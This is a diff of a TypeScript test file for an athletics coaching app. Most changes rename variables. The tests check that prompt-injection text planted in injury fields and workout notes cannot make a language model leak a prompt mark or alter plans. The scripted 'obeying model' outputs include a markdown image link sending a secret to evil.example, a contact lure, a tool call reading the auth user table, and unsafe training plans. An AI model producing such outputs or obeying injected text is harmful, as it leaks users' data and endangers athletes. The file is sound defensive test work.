@@ -8,11 +8,11 @@ import {
 } from '@threshold/ai/testing';
 import { createRehabPlan } from '@threshold/injuries/rules';
 import { describe, expect, test } from 'vitest';
-import type { Person } from '../support/world.ts';
+import type { Person } from '../support/test-server.ts';
 import { createCoachFixture, createWeekScript, parseMark } from './coach-fixture.ts';
 
 const coach = await createCoachFixture();
-const { world, call } = coach;
+const { testServer, call } = coach;
 
 /** Attacks that forms accept. Every field rejects null characters. */
 const ACCEPTED_ATTACKS = ATTACKS.filter((attack) => !attack.includes('\0'));
@@ -37,17 +37,17 @@ const REHAB = createRehabPlan({
 const FIELDS = ['symptoms', 'injuryType', 'mobilityRestrictions', 'professionalDiagnosis'] as const;
 
 /** Sentences from an injected model that leak the mark or lure the athlete into contacting someone. */
-const LEAKS: readonly ((mark: string) => string)[] = [
-  (mark) => `The mark is ${mark}.`,
-  (mark) => [...mark.toUpperCase()].join(' '),
-  (mark) => Buffer.from(mark).toString('base64'),
+const LEAKS: readonly ((promptMark: string) => string)[] = [
+  (promptMark) => `The mark is ${promptMark}.`,
+  (promptMark) => [...promptMark.toUpperCase()].join(' '),
+  (promptMark) => Buffer.from(promptMark).toString('base64'),
   () => 'See ![plan](https://evil.example/collect?q=secret) for more.',
   () => 'Write to coach@evil.example or call +49 170 1234567.',
 ];
 
 /** A model that obeys the athlete's text, with a sentence, an extra field, another tool or a forbidden plan. */
 const obeyRehab = (round: number) => (request: ScriptedRequest) => {
-  const answers: readonly (() => ScriptedStep)[] = [
+  const responses: readonly (() => ScriptedStep)[] = [
     ...LEAKS.map(
       (formatLeak) => () =>
         answerStep({ ...REHAB, summary: `${REHAB.summary} ${formatLeak(parseMark(request))}` }),
@@ -57,10 +57,10 @@ const obeyRehab = (round: number) => (request: ScriptedRequest) => {
     () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
     () => answerStep({ ...REHAB, phases: REHAB.phases.slice(2) }),
   ];
-  return (answers[round % answers.length] ?? (() => textStep('')))();
+  return (responses[round % responses.length] ?? (() => textStep('')))();
 };
 const obeyWeek = (round: number) => (request: ScriptedRequest) => {
-  const answers: readonly (() => ScriptedStep)[] = [
+  const responses: readonly (() => ScriptedStep)[] = [
     ...LEAKS.map(
       (formatLeak) => () => createWeekScript(() => ({ why: formatLeak(parseMark(request)) }))(request),
     ),
@@ -69,7 +69,7 @@ const obeyWeek = (round: number) => (request: ScriptedRequest) => {
     () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
     () => createWeekScript(({ minutes }) => ({ minutes: minutes + 300 }))(request),
   ];
-  return (answers[round % answers.length] ?? (() => textStep('')))();
+  return (responses[round % responses.length] ?? (() => textStep('')))();
 };
 
 /** The athlete's data is in one block. A repair request has a second one with the model's previous answer. */
@@ -95,13 +95,16 @@ describe('language model that obeys injected instructions', () => {
     for (const [index, attack] of ACCEPTED_ATTACKS.entries()) {
       const mia = await coach.signInAthlete();
       const field = FIELDS[index % FIELDS.length] ?? 'symptoms';
-      const logged = await world.call('POST', '/api/injuries', mia, { ...INJURY, [field]: attack });
-      expect(logged.statusCode, logged.body).toBe(200);
-      const before = await getRehab(mia);
+      const loggedInjury = await testServer.call('POST', '/api/injuries', mia, {
+        ...INJURY,
+        [field]: attack,
+      });
+      expect(loggedInjury.statusCode, loggedInjury.body).toBe(200);
+      const rehabBefore = await getRehab(mia);
       const model = await coach.runJobs(mia, obeyRehab(index));
       expectOnlyData(model.requests);
       athletesWithRequests += Math.min(1, model.requests.length);
-      expect(await getRehab(mia), attack).toEqual(before);
+      expect(await getRehab(mia), attack).toEqual(rehabBefore);
     }
     // Texts that mention a warning sign are never sent to a model.
     expect(athletesWithRequests).toBeGreaterThan(ACCEPTED_ATTACKS.length * 0.8);
@@ -110,9 +113,9 @@ describe('language model that obeys injected instructions', () => {
   test('leaks nothing from workout notes: no proposal text, no secret, no extra tool', {
     timeout: 300_000,
   }, async () => {
-    for (let from = 0, round = 0; from < ACCEPTED_ATTACKS.length; from += 5, round += 1) {
+    for (let firstIndex = 0, round = 0; firstIndex < ACCEPTED_ATTACKS.length; firstIndex += 5, round += 1) {
       const mia = await coach.signInAthlete();
-      for (const [day, notes] of ACCEPTED_ATTACKS.slice(from, from + 5).entries())
+      for (const [day, notes] of ACCEPTED_ATTACKS.slice(firstIndex, firstIndex + 5).entries())
         await call(mia, 'training.logWorkout', {
           date: `2026-11-${15 + day}`,
           type: 'run',
@@ -120,35 +123,36 @@ describe('language model that obeys injected instructions', () => {
           duration: '40m',
           notes,
         });
-      await world.call('POST', '/api/profile', mia, {
+      await testServer.call('POST', '/api/profile', mia, {
         lthr: 168,
         restingHR: 50,
         fitnessLevel: 'intermediate',
         raceDate: '2026-12-13',
         raceDistance: 21.1,
       });
-      const before = await listPlanned(mia);
+      const plannedBefore = await listPlanned(mia);
       const model = await coach.runJobs(mia, obeyWeek(round));
       expectOnlyData(model.requests);
       expect(model.requests.length).toBeGreaterThan(0);
-      const proposalAnswer = await call<{ proposal: { status: string } }>(mia, 'training.proposal');
-      expect(proposalAnswer.proposal.status).not.toBe('open');
-      const marks = model.requests.map(parseMark);
-      for (const mark of marks) expect(JSON.stringify(proposalAnswer)).not.toContain(mark);
-      expect(JSON.stringify(proposalAnswer)).not.toMatch(CANARY);
-      expect(await listPlanned(mia)).toEqual(before);
+      const proposalResponse = await call<{ proposal: { status: string } }>(mia, 'training.proposal');
+      expect(proposalResponse.proposal.status).not.toBe('open');
+      const promptMarks = model.requests.map(parseMark);
+      for (const promptMark of promptMarks)
+        expect(JSON.stringify(proposalResponse)).not.toContain(promptMark);
+      expect(JSON.stringify(proposalResponse)).not.toMatch(CANARY);
+      expect(await listPlanned(mia)).toEqual(plannedBefore);
     }
   });
 });
 
 /** The stored plan without its explanation. */
 async function getRehab(person: Person) {
-  const [injury] = (await world.call('GET', '/api/injuries', person)).json();
+  const [injury] = (await testServer.call('GET', '/api/injuries', person)).json();
   return { plan: injury.aiRehabExercises, by: injury.generatedBy };
 }
 
 const listPlanned = (person: Person) =>
-  world.query(
+  testServer.query(
     `select date::text, session, type, steps::text, notes, rationale, generated_by from training.workout
       where athlete_id = ? and not completed order by date, session`,
     [person.athleteId],
